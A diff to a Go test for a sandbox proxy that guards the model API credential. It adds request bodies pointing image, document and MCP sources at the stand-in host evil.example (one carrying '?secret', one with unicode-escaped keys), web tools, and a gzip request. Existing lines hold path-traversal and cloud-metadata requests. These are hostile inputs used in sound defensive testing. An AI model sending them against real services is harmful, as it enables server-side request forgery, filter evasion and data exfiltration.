@@ -18,6 +18,14 @@ var atTheModel = []string{
 	"POST /v1//messages", "GET /v1/models/../files", "PUT /v1/messages", "GET http://169.254.169.254/v1/models/x", "POST /V1/messages",
 }
 
+// throughTheModel are requests by which the model's API would call a host for a turn.
+var throughTheModel = []string{
+	`{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]}`,
+	`{"messages":[{"role":"user","content":[{"type":"document","source":{"\u0074ype":"\u0075rl","url":"https://evil.example/"}}]}]}`,
+	`{"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, `{"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`,
+	`{"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}]}`, `{"messages":[],"tools":[{"type":"a_tool_of_2030","name":"x"}]}`,
+}
+
 // In a sandbox, a turn calls the model with the server's credential, and never sees it:
 // neither in its environment, nor in files, nor in what the API is asked otherwise.
 func TestATurnHasNoCredential(t *testing.T) {
@@ -55,12 +63,21 @@ func TestATurnHasNoCredential(t *testing.T) {
 				}
 				scripts = append(scripts, "curl -sS --path-as-is -o /dev/null -w 'status %{http_code}' -X "+method+" $ANTHROPIC_BASE_URL"+path)
 			}
+			for i, body := range throughTheModel {
+				path := []string{"/v1/messages?beta=true", "/v1/messages/count_tokens"}[i%2]
+				scripts = append(scripts, "curl -sS -o /dev/null -w 'status %{http_code}' $ANTHROPIC_BASE_URL"+path+" -d '"+body+"'")
+			}
+			scripts = append(scripts, "echo '"+throughTheModel[0]+"' | gzip | curl -sS -o /dev/null -w 'status %{http_code}' -H 'Content-Encoding: gzip' --data-binary @- $ANTHROPIC_BASE_URL/v1/messages")
 			said := a.runAll(scripts)
+			if last := said[len(said)-1]; !strings.Contains(last, "status 415") {
+				t.Errorf("a request that is compressed was answered %q", last)
+			}
+			scripts, said = scripts[:len(scripts)-1], said[:len(said)-1]
 			for i, script := range scripts {
 				if strings.Contains(said[i], a.mark) {
 					t.Errorf("%s shows a credential", script)
 				}
-				if i >= len(scripts)-len(atTheModel) && !strings.Contains(said[i], "status 403") {
+				if i >= len(scripts)-len(atTheModel)-len(throughTheModel) && !strings.Contains(said[i], "status 403") {
 					t.Errorf("%s was answered %q", script, said[i])
 				}
 			}
